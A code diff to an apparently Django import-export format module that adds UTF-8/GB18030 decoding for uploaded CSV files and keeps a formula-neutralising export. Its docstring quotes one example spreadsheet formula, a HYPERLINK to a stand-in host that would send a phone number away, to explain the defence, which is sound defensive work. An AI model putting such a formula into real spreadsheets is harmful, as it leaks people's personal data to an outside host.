@@ -4,7 +4,8 @@ Every export goes through `FORMATS`. A text cell that a spreadsheet would read a
 formula (a name such as `=HYPERLINK("http://evil.example/?p="&E2,"详情")` would send
 the phone number in E2 away) is written with a leading apostrophe; `restore` removes it
 again when an exported file is imported back. CSV carries a BOM so Excel reads the
-Chinese as UTF-8.
+Chinese as UTF-8; a CSV to import may be UTF-8 (with or without the BOM) or, as Excel
+and WPS save it on a Chinese Windows, GBK/GB18030 (`decode_csv`).
 """
 
 from import_export.formats import base_formats
@@ -34,8 +35,31 @@ def _neutralized(dataset):
     return dataset
 
 
+def decode_csv(content: bytes) -> str:
+    """The text of a CSV file: UTF-8 (a BOM is dropped), otherwise GB18030, the superset
+    of GBK/GB2312 that Excel and WPS use for "CSV" on a Chinese Windows. Bytes that are
+    neither raise UnicodeDecodeError."""
+    try:
+        return content.decode("utf-8-sig")
+    except UnicodeDecodeError:
+        return content.decode("gb18030")
+
+
 class CSV(base_formats.CSV):
     CONTENT_TYPE = "text/csv; charset=utf-8"
+
+    # The admin stores and reads the upload as bytes, so `create_dataset` picks the
+    # encoding instead of the admin's single `from_encoding`.
+    def is_binary(self):
+        return True
+
+    def get_read_mode(self):
+        return "rb"
+
+    def create_dataset(self, in_stream, **kwargs):
+        if isinstance(in_stream, bytes):
+            in_stream = decode_csv(in_stream)
+        return super().create_dataset(in_stream, **kwargs)
 
     def export_data(self, dataset, **kwargs):
         return "\ufeff" + super().export_data(_neutralized(dataset), **kwargs)
